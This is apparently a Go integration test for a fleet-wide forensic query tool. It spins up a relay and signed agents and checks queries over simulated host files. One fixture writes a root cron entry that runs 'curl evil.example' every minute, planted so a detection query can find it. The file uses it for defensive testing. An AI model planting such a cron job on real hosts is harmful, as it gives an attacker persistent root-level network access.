package client_test

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/quaestor-engine/quaestor"
	"github.com/quaestor-engine/quaestor/agent"
	"github.com/quaestor-engine/quaestor/client"
	"github.com/quaestor-engine/quaestor/modules"
	"github.com/quaestor-engine/quaestor/modules/std"
	"github.com/quaestor-engine/quaestor/relay"
	"github.com/quaestor-engine/quaestor/signing"
)

// A fleet is a relay and agents in this process, over real TLS.
type fleet struct {
	t      *testing.T
	dir    string
	key    *signing.PrivateKey
	policy *signing.Policy
	text   string
	addr   string
	pin    string
	token  string
	stop   context.CancelFunc
	agents []context.CancelFunc
}

func newFleet(t *testing.T) *fleet {
	return newFleetWith(t, func(policy string) string { return policy })
}

// newFleetWith is newFleet with a policy that change makes of the usual one.
func newFleetWith(t *testing.T, change func(policy string) string) *fleet {
	t.Helper()
	f := &fleet{t: t, dir: t.TempDir()}
	var err error
	if f.key, err = signing.NewPrivateKey("Ada", "ada@example.org", time.Now().Add(-time.Minute)); err != nil {
		t.Fatal(err)
	}
	f.text = signing.NewPolicyText(signing.PolicySpec{
		Fleet: signing.NewID(), Name: "test",
		Administrators: []signing.PrincipalSpec{{Name: "Ada", Key: f.key.Public()}},
		Investigators:  []signing.PrincipalSpec{{Name: "Ada", Key: f.key.Public(), Weight: 1}},
	})
	f.text = change(f.text)
	envelope := f.sign(signing.TypePolicy, []byte(f.text))
	if f.policy, err = signing.ParsePolicy([]byte(f.text)); err != nil {
		t.Fatal(err)
	}
	if err := relay.Init(f.path("relay"), relay.InitOptions{Listen: "127.0.0.1:0", Policy: envelope}); err != nil {
		t.Fatal(err)
	}
	f.startRelay()
	tok, err := signing.NewToken(signing.TokenSpec{
		Fleet: f.policy.Fleet(), Tags: map[string]string{"team": "web"}, Uses: 100,
		NotBefore: time.Now().Add(-time.Minute), Expires: time.Now().Add(time.Hour),
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := tok.Envelope.Sign(t.Context(), f.key); err != nil {
		t.Fatal(err)
	}
	f.token = tok.String([]signing.Fingerprint{f.key.Fingerprint()}, f.pin)
	return f
}

func (f *fleet) path(name string) string { return filepath.Join(f.dir, name) }

func (f *fleet) sign(kind string, payload []byte) []byte {
	f.t.Helper()
	e := &signing.Envelope{PayloadType: kind, Payload: payload}
	if err := e.Sign(f.t.Context(), f.key); err != nil {
		f.t.Fatal(err)
	}
	return e.Encode()
}

func (f *fleet) startRelay() {
	f.t.Helper()
	opts := relay.Options{}
	if testing.Verbose() {
		opts.Logger = slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelDebug}))
	}
	r, err := relay.Open(f.t.Context(), f.path("relay"), opts)
	if err != nil {
		f.t.Fatal(err)
	}
	f.addr, f.pin = r.Addr().String(), r.Pin()
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		if err := r.Serve(ctx); err != nil {
			f.t.Error(err)
		}
	}()
	f.stop = func() { cancel(); <-done }
	f.t.Cleanup(f.stop)
}

// startAgent enrols a host with some files and runs its agent.
func (f *fleet) startAgent(name string, files map[string]string) {
	f.t.Helper()
	root := f.path("root-" + name)
	files["/etc/hostname"] = name + "\n"
	files["/etc/os-release"] = "ID=debian\nVERSION_ID=\"12\"\n"
	for path, text := range files {
		if err := os.MkdirAll(filepath.Dir(root+path), 0o755); err != nil {
			f.t.Fatal(err)
		}
		if err := os.WriteFile(root+path, []byte(text), 0o644); err != nil {
			f.t.Fatal(err)
		}
	}
	host := modules.Host{Root: root, Now: time.Now}
	dir := f.path("agent-" + name)
	if _, err := agent.Enroll(f.t.Context(), agent.EnrollOptions{Dir: dir, Relays: []string{f.addr}, Token: f.token}); err != nil {
		f.t.Fatal(err)
	}
	cat, err := modules.NewCatalogue(std.Modules()...)
	if err != nil {
		f.t.Fatal(err)
	}
	o := agent.Options{Dir: dir, Catalogue: cat, Host: host}
	if testing.Verbose() {
		o.Logger = slog.New(slog.NewTextHandler(os.Stderr, nil)).With("host", name)
	}
	a, err := agent.Open(o)
	if err != nil {
		f.t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = a.Run(ctx)
		_ = a.Close()
	}()
	stop := func() { cancel(); <-done }
	f.agents = append(f.agents, stop)
	f.t.Cleanup(stop)
}

func (f *fleet) dial() *client.Session {
	f.t.Helper()
	home, err := client.OpenHome(f.path("home"))
	if err != nil {
		f.t.Fatal(err)
	}
	home.Config = client.Config{Relays: []string{f.addr}, Pin: f.pin, Administrators: []string{string(f.key.Fingerprint())}}
	s, err := client.Dial(f.t.Context(), "", client.WithHome(home), client.WithKey(f.key))
	if err != nil {
		f.t.Fatal(err)
	}
	f.t.Cleanup(func() { s.Close() })
	return s
}

func (f *fleet) waitOnline(s *client.Session, n int) {
	f.t.Helper()
	for deadline := time.Now().Add(10 * time.Second); ; {
		agents, err := s.Fleet(f.t.Context())
		if err != nil {
			f.t.Fatal(err)
		}
		online := 0
		for _, a := range agents {
			if a.Online && len(a.Facts) > 3 {
				online++
			}
		}
		if online == n {
			return
		}
		if time.Now().After(deadline) {
			f.t.Fatalf("%d of %d agents are connected", online, n)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// ask gives the rows of a query in order, and who answered.
func (f *fleet) ask(s *client.Session, query string) ([]string, quaestor.Coverage) {
	f.t.Helper()
	rows, err := s.Query(f.t.Context(), query)
	if err != nil {
		f.t.Fatalf("%s: %v", query, err)
	}
	defer rows.Close()
	var out []string
	for row, err := range rows.All() {
		if err != nil {
			f.t.Fatalf("%s: %v", query, err)
		}
		var text []string
		for i, v := range row.Values() {
			if rows.Tables()[row.Table()].Origin && i == 1 {
				continue
			}
			text = append(text, v.String())
		}
		out = append(out, strings.Join(text, " "))
	}
	slices.Sort(out)
	c, _ := rows.Coverage()
	return out, c
}

func TestFleet(t *testing.T) {
	f := newFleet(t)
	for i := range 3 {
		files := map[string]string{"/etc/motd": "hello\n"}
		if i == 1 {
			files["/etc/cron.d/x"] = "* * * * * root curl evil.example\n"
		}
		f.startAgent(fmt.Sprint("web-", i), files)
	}
	s := f.dial()
	f.waitOnline(s, 3)
	for _, c := range []struct {
		query, want string
		states      string
	}{
		{`FROM fleet FIND file /etc/** CONTAINS "evil" RETURN path`, "web-1 /etc/cron.d/x", "empty matched empty"},
		{`FROM fleet WHERE os = linux AND tags.team = "web" FIND host RETURN hostname`, "web-0 web-0|web-1 web-1|web-2 web-2", "matched matched matched"},
		{`FROM fleet FIND file /etc/* STACK name`, "cron.d 1 1|hostname 3 3|motd 3 3|os-release 3 3", "matched matched matched"},
		{`FROM host "web-2" FIND file /etc/motd RETURN size`, "web-2 6", "matched"},
		{`FROM fleet FIND NOT file /etc/cron.d/*`, "web-0|web-2", "matched empty matched"},
		{`FROM fleet WHERE tags.team = "db" FIND host`, "", ""},
	} {
		got, coverage := f.ask(s, c.query)
		var states []string
		for _, a := range coverage.Agents {
			states = append(states, a.State.String())
		}
		if strings.Join(got, "|") != c.want || c.want != "" && strings.Join(states, " ") != c.states {
			t.Errorf("%s\ngot  %s; %v %v\nwant %s; %s", c.query, strings.Join(got, "|"), states, coverage, c.want, c.states)
		}
	}
}

// A policy may be as large as policies can be, as one that revokes thousands of
// agents is: investigators and agents come in all the same.
func TestLargePolicy(t *testing.T) {
	f := newFleetWith(t, func(policy string) string {
		return policy + strings.Repeat("# "+strings.Repeat("x", 98)+"\n", (signing.MaxPolicy-len(policy))/101)
	})
	f.startAgent("web-0", map[string]string{"/etc/motd": "hello\n"})
	s := f.dial()
	f.waitOnline(s, 1)
	if rows, _ := f.ask(s, `FROM fleet FIND file /etc/motd RETURN size`); strings.Join(rows, "|") != "web-0 6" {
		t.Errorf("%q", rows)
	}
}
